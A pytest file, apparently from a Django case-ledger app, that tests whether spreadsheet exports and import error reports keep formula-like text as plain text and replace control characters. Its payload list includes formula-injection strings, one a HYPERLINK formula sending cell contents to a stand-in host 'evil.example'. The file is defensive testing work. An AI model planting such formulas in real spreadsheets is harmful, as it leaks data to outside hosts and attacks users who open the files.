"""Text in a written workbook stays text: a cell that begins with =, +, -, @, a tab or a carriage
return is never a formula (CSV/formula injection, OWASP), and its text is kept exactly."""

from __future__ import annotations

import pytest
from openpyxl import Workbook, load_workbook

from cases.models import Case
from ledgers.cells import text_row
from ledgers.tests.helpers import run, run_failing
from orgs.models import Organisation
from regions.models import Region

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "=1",
    "#N/A",
]


def _cell_types(path, column: str) -> list[tuple[object, str]]:
    sheet = load_workbook(path).active
    assert sheet is not None
    return [(cell.value, cell.data_type) for cell in sheet[column][1:]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_export_command_writes_formula_like_text_as_text(world, tmp_path, payload):
    case = world.assigned(title="占位")
    # Stored straight in the rows: whatever a title, a place or a unit may hold, it is exported.
    Case.objects.filter(pk=case.pk).update(title=payload)
    Region.objects.filter(pk=world.grid.pk).update(name=payload)
    Organisation.objects.filter(pk=world.dept.pk).update(name=payload)
    path = tmp_path / "out.xlsx"
    run("export_cases", path)
    for column in ("D", "F", "K"):  # 标题, 发生地, 主办单位
        assert _cell_types(path, column) == [(payload, "s")], column


def test_text_row_keeps_numbers_dates_and_empty_cells(tmp_path):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(text_row(sheet, ["=1+2", 3, None, "", "普通文字"]))
    workbook.save(tmp_path / "x.xlsx")
    row = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        ("=1+2", "s"),
        (3, "n"),
        (None, "n"),
        (None, "n"),
        ("普通文字", "s"),
    ]


def test_characters_a_workbook_cannot_hold_are_replaced_not_fatal(tmp_path):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(text_row(sheet, ["路灯\x01不亮\x1f"]))
    workbook.save(tmp_path / "x.xlsx")
    assert load_workbook(tmp_path / "x.xlsx").active["A1"].value == "路灯\ufffd不亮\ufffd"


def test_an_import_error_report_gives_back_formula_like_text_as_text(world, tmp_path):
    from ledgers.tests.helpers import ENTERPRISE_HEADERS, bad_check, credit

    # The uploaded ledger holds the text "=1+2" (a text cell, as a user types '=1+2).
    book = Workbook()
    book.active.append(ENTERPRISE_HEADERS)
    book.active.append(["=1+2", bad_check(credit(1))])
    book.active["A2"].data_type = "s"
    book.save(tmp_path / "e.xlsx")
    report = tmp_path / "report.xlsx"
    run_failing("import_enterprises", tmp_path / "e.xlsx", "--report", report)
    fix = load_workbook(report).worksheets[0]
    assert (fix["A2"].value, fix["A2"].data_type) == ("=1+2", "s")


def test_a_control_character_in_a_title_does_not_break_the_export(world, tmp_path):
    case = world.assigned(title="占位")
    Case.objects.filter(pk=case.pk).update(title="路灯\x0b不亮")
    run("export_cases", tmp_path / "out.xlsx")
    assert load_workbook(tmp_path / "out.xlsx").active["D2"].value == "路灯\ufffd不亮"
